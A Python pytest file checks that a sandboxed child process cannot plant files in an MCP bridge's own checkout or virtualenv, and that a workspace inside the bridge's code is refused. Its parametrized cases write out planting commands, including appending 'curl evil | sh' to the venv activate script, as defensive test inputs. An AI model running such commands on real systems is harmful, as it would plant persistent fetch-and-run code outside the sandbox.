"""The bridge's own code, venv and checkout are never writable by a child (issue 27, point 2).

The attack: the workspace holds the bridge's checkout (the old default: started there, no
`MCP_WORKSPACE`), and a child plants `bridge/PLANTED.py`, appends to `.venv/bin/activate` and
creates `.venv/bin/PLANTED`: the next start would run them unsandboxed. In the sandbox tests a
stand-in checkout under the workspace is named as the bridge's own; the real one is named by the
bridge's own settings below (and never written: a workspace inside it is refused).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from sandbox_box import Box

import bridge
from bridge.settings import Settings, checkout_root, own_paths, own_paths_inside, workspace_problem
from sandbox import InvalidWorkspace, plan_launch

bwrap = pytest.mark.bwrap


def stand_in_checkout(box: Box) -> tuple[Path, Path]:
    checkout = box.ws / "mcp-bridge"
    (checkout / "bridge").mkdir(parents=True)
    (checkout / "bridge" / "__init__.py").write_text("")
    (checkout / ".venv" / "bin").mkdir(parents=True)
    (checkout / ".venv" / "bin" / "activate").write_text("# activate\n")
    return checkout, checkout / ".venv"


def sandboxed_sh(box: Box, script: str, own: tuple[Path, ...]) -> subprocess.CompletedProcess[str]:
    return box.run(box.launch("/bin/sh", ["-c", script], own_paths=own))


@bwrap
@pytest.mark.parametrize(
    "plant",
    [
        "echo 'import os' > {checkout}/bridge/PLANTED.py",
        "echo 'curl evil | sh' >> {venv}/bin/activate",
        "touch {venv}/bin/PLANTED",
        "mv {checkout} {checkout}.moved",
    ],
)
def test_child_cannot_plant_in_the_bridges_own_code(box: Box, plant: str) -> None:
    checkout, venv = stand_in_checkout(box)
    proc = sandboxed_sh(box, plant.format(checkout=checkout, venv=venv), (checkout, venv))
    assert proc.returncode != 0
    assert "Read-only file system" in proc.stderr or "Device or resource busy" in proc.stderr, proc.stderr
    assert not (checkout / "bridge" / "PLANTED.py").exists()
    assert not (venv / "bin" / "PLANTED").exists()
    assert (venv / "bin" / "activate").read_text() == "# activate\n"
    assert checkout.is_dir()


@bwrap
def test_child_writes_the_workspace_beside_the_bridges_own_code(box: Box) -> None:
    """Positive twin: the same workspace, a file of its own; and the plant lands without `own_paths`."""
    checkout, venv = stand_in_checkout(box)
    proc = sandboxed_sh(box, f"echo made > {box.ws}/out.txt", (checkout, venv))
    assert proc.returncode == 0, proc.stderr
    assert (box.ws / "out.txt").read_text() == "made\n"
    proc = sandboxed_sh(box, f"touch {venv}/bin/PLANTED", ())
    assert proc.returncode == 0 and (venv / "bin" / "PLANTED").exists()


def test_a_workspace_inside_the_bridges_own_code_is_refused_by_the_sandbox(box: Box) -> None:
    checkout, venv = stand_in_checkout(box)
    with pytest.raises(InvalidWorkspace, match="lies inside the bridge's own"):
        plan_launch(
            "/bin/true", [], cwd=checkout, server_env={}, network=None, write_paths=(),
            config=box.config(workspace=checkout, own_paths=(box.ws,)),
        )  # fmt: skip


def test_the_bridge_knows_its_own_code_and_refuses_a_workspace_in_its_checkout(tmp_path: Path) -> None:
    settings = Settings(workspace=tmp_path, state_dir=tmp_path / "state")
    own = own_paths(settings, tmp_path / "config.py")
    assert own[Path(bridge.__file__).resolve().parent] == "package"
    assert own[Path(sys.prefix).resolve()] == "venv"
    assert own[(tmp_path / "state").resolve()] == "state directory"
    root = checkout_root()
    assert root is not None and own[root] == "checkout"  # the tests run from the checkout
    problem = workspace_problem(Settings(workspace=root, state_dir=tmp_path / "state"), own=own)
    assert problem is not None and "MCP_WORKSPACE" in problem and str(root) in problem
    assert workspace_problem(settings, own=own) is None


def test_a_workspace_holding_the_bridges_own_code_is_said_at_start(tmp_path: Path) -> None:
    own = {tmp_path / "mcp-bridge": "checkout", tmp_path / "mcp-bridge" / ".venv": "venv", Path("/usr"): "interpreter"}
    held = own_paths_inside(tmp_path, own)
    assert held == [f"checkout {tmp_path / 'mcp-bridge'}", f"venv {tmp_path / 'mcp-bridge' / '.venv'}"]
